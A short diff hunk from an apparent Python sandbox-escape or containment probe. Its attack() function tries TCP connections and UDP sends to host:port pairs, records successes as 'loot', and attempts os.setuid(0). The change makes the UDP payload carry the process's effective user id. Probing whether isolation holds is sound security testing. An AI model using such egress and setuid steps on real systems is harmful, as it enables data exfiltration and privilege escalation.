@@ -58,7 +58,7 @@ def attack(site: Path) -> dict[str, str]:
         with contextlib.suppress(OSError), socket.create_connection((host, port), timeout=2):
             loot[f"connected {host}:{port}"] = "yes"
         with contextlib.suppress(OSError), socket.socket(socket.AF_INET, socket.SOCK_DGRAM) as datagrams:
-            datagrams.sendto(b"x", (host, port))
+            datagrams.sendto(str(os.geteuid()).encode(), (host, port))
             loot[f"sent to {host}:{port}"] = "yes"
     with contextlib.suppress(OSError):
         os.setuid(0)
